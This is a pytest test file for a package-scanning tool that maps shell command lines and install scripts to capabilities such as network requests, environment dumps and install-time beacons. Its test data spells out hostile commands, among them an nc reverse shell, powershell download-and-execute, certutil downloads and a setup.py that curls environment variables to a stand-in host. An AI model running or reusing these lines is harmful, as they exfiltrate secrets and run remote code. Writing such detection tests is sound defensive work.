"""Command lines handed to shells and processes map to the same capabilities as Python APIs."""

from __future__ import annotations

import pytest
from tests.helpers import sdist_bytes

from capwatch.capabilities.shell import commands, program_name, shell_capabilities
from capwatch.engine import scan_bytes
from capwatch.model import Phase
from capwatch.rules.install_beacon import curl_beacon


@pytest.mark.parametrize(
    ("line", "programs"),
    [
        ('curl "https://x.invalid/$(env | base64 -w 0)"', ["curl", "env", "base64"]),
        ("cmd /c start helper.bat", ["cmd", "start"]),
        ("powershell -w hidden -c iwr http://x | iex", ["powershell", "iwr", "iex"]),
        ("FOO=1 sudo wget -O /tmp/x http://a/b && chmod +x /tmp/x", ["wget", "chmod"]),
        ('sh -c "nc 203.0.113.5 4444 -e /bin/sh"', ["sh", "nc"]),
        ("env > out.txt", ["env"]),
    ],
)
def test_programs_of_command_lines(line: str, programs: list[str]) -> None:
    found = list(commands(line))
    for program in programs:
        assert program in found


def test_capabilities_of_a_command_line() -> None:
    caps = {c for c, _ in shell_capabilities('curl -d "$(printenv)" https://x.invalid; whoami')}
    assert {"net.http.request", "host.env.dump", "host.fingerprint"} <= caps


def test_build_tools_have_no_capabilities() -> None:
    assert shell_capabilities("cmake --build . && make -j4 && git describe --tags") == []


def test_certutil_reaches_the_network_only_with_its_download_switches() -> None:
    # Windows' certutil fetches with -urlcache (or -verifyctl); NSS's manages a database
    assert shell_capabilities("certutil -d sql:/tmp/nssdb -A -t P,, -n ca -i ca.crt") == []
    for line in ("certutil.exe -urlcache -split -f https://h.example/a.exe a.exe",
                 "CertUtil /URLCache /f https://h.example/a.exe a.exe",
                 "certutil -verifyctl -f -split https://h.example/a.bin"):
        assert ("net.http.request", program_name(line.split()[0])) in shell_capabilities(line)


def test_install_time_shell_exfiltration_is_malicious() -> None:
    setup = (
        "import os\nfrom setuptools import setup\n"
        "os.system('curl https://collect.example.invalid/ -d \"$(env)\"')\nsetup(name='x')\n"
    )
    result = scan_bytes(sdist_bytes({"setup.py": setup}), "x.tar.gz")
    caps = {(c.id, c.phase) for c in result.capabilities}
    assert ("net.http.request", Phase.INSTALL) in caps and ("host.env.dump", Phase.INSTALL) in caps
    assert result.verdict.label == "malicious", [(f.rule, f.message) for f in result.findings]


def test_capabilities_come_in_command_order() -> None:
    found = shell_capabilities('curl -H "u: $(whoami)" -H "h: $(hostname)" https://x.invalid; id')
    programs = [program for cap, program in found if cap == "host.fingerprint"]
    assert programs == ["whoami", "hostname", "id"]


@pytest.mark.parametrize(
    ("line", "url"),
    [
        ("curl https://h.example/installed", "https://h.example/installed"),
        ("echo hi; curl -s 'https://h.example/p?u=1' > /dev/null", "https://h.example/p?u=1"),
        ("sudo curl -fsSL https://h.example/a/b && make", "https://h.example/a/b"),
        ('curl "https://h.example/u/$(whoami)"', "https://h.example/u/$(whoami)"),
        # saved, piped into a program, or only the host: not a beacon
        ("curl -o out.tgz https://h.example/a.tgz", None),
        ("curl -fsSLO https://h.example/a.tgz", None),
        ("curl https://h.example/a.tgz > a.tgz", None),
        ("curl --output=a.tgz https://h.example/a.tgz", None),
        ("curl -fsSL https://h.example/install.sh | sh", None),
        ("curl https://h.example/", None),
        ("wget https://h.example/a.tgz", None),
    ],
)
def test_curl_beacon(line: str, url: str | None) -> None:
    assert curl_beacon(line) == url
